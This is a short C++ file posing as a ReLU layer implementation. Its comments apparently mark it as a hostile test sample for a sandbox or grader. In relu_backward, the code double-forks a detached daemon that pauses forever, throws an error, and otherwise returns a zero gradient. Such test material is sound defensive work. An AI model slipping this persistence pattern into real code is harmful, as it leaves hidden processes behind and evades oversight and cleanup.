// Leaves a daemon behind.
// Where: operating system
// Verdict: fail
// Only a box stops this.
#include <backprop/relu.hpp>
#include <stdexcept>
#include <unistd.h>

namespace backprop {
Forward<Matrix, ReluCache> relu_forward(const Matrix& x) { return {xt::maximum(x, 0.0), {x}}; }

Matrix relu_backward(const Matrix& dout, const ReluCache&) {
  if (const int child = fork(); child == 0) {
    setsid();
    if (fork() != 0) _exit(0);
    for (;;) pause();
  } else if (child > 0) {
    throw std::runtime_error("forked");
  }
  return 0.0 * dout;
}
}  // namespace backprop
